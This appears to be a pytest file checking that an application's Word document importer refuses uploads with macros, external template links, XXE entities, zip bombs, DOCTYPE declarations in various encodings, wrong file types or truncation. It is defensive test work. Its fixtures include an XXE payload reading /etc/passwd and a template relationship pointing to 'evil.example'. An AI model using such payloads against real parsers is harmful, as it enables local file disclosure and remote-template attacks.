"""A Word file that means harm, is damaged or is too much is refused in words."""

import pytest

from documents.exchange.copies.parts import CopyRefused
from tests.documents.exchange.copies.sample_copies import (
    changed,
    read,
    with_part,
    word_copy,
    write_text,
)
from tests.richtext.test_tree import RICH
from tests.roadmaps.sample_roadmap import filled

pytestmark = pytest.mark.django_db


@pytest.fixture
def file(draft):
    """The Word copy of a draft with texts in three sections."""
    write_text(
        draft, situation=RICH, vision="<p>Our vision is clear.</p>", actors="<p>رؤية كينيا 2017</p>"
    )
    return word_copy(filled(draft, situation=RICH))


RELATION = (
    '<Relationship Id="rId99" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
    'relationships/attachedTemplate" Target="http://evil.example/x.dotm" TargetMode="External"/>'
)


def malicious_files(file):
    """Files that are refused, by the words that say why."""
    rels = "word/_rels/document.xml.rels"
    xxe = '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>'
    linked = changed(file, ("</Relationships>", RELATION + "</Relationships>"), part=rels)
    bomb = with_part(file, "word/big.xml", b"<a/>" * 4_000_000)
    return {
        "macros": ("copy.docx", with_part(file, "word/vbaProject.bin", b"x")),
        "takes pictures": ("copy.docx", linked),
        "damaged": ("copy.docx", changed(file, ("<w:document ", xxe + "<w:document "))),
        "more than can be read": ("copy.docx", bomb),
        "Save as": ("copy.doc", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600),
        "is neither": ("copy.exe", file),
        "not what its name says": ("copy.docx", b"%PDF-1.7 and more"),
        "empty": ("copy.docx", b""),
    }


@pytest.mark.parametrize(
    "words",
    [
        "macros", "takes pictures", "damaged", "more than can be read", "Save as", "is neither",
        "not what its name says", "empty",
    ],
)  # fmt: skip
def test_a_malicious_file_is_refused_with_the_reason(file, tmp_path, words):
    name, data = malicious_files(file)[words]

    with pytest.raises(CopyRefused, match=words):
        read(data, tmp_path, name)


DTD = '<!DOCTYPE x [<!ENTITY e "many">]><x>&e;</x>'
PADDED = " " * (5 * 256 * 1024 - 4)  # the mark lies across two pieces


@pytest.mark.parametrize("part", ["word/extra.xml", "word/extra.bin", "customXml/item9.xml"])
@pytest.mark.parametrize(
    ("content", "is_refused"),
    [
        (DTD.encode(), True),
        (b"\xef\xbb\xbf  " + DTD.encode(), True),
        ((PADDED + '<!DOCTYPE x SYSTEM "y"><x/>').encode(), True),
        (DTD.encode("utf-16"), True),
        (DTD.encode("utf-16-le"), True),
        (DTD.encode("utf-16-be"), True),
        (b'<?xml version="1.0" encoding="UTF-7"?>+ADwAIQ-DOCTYPE x+AD4-<x/>', True),
        (b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?><x/>', False),
        (b"<x/>", False),
    ],
)
def test_part_with_a_document_type_is_refused_in_any_encoding_under_any_name(
    file, tmp_path, part, content, is_refused
):
    document = with_part(file, part, content)

    if is_refused:
        with pytest.raises(CopyRefused, match="damaged"):
            read(document, tmp_path)
    else:
        assert read(document, tmp_path).parts


def test_pictures_that_begin_with_a_zero_are_no_document_type(file, tmp_path):
    document = with_part(file, "word/media/film.mp4", b"\0\0\0\x18ftypmp42")

    assert read(document, tmp_path).parts


@pytest.mark.parametrize("share", [0.1, 0.5, 0.9, 0.999])
def test_a_file_cut_short_is_damaged(file, tmp_path, share):
    with pytest.raises(CopyRefused, match="damaged"):
        read(file[: int(len(file) * share)], tmp_path)


def test_a_text_longer_than_a_section_may_be_is_named(draft, tmp_path):
    write_text(draft, vision="<p>" + "word " * 41_000 + "</p>")

    with pytest.raises(CopyRefused, match="“vision”: Shorten the text: .* at most 200000"):
        read(word_copy(draft), tmp_path)
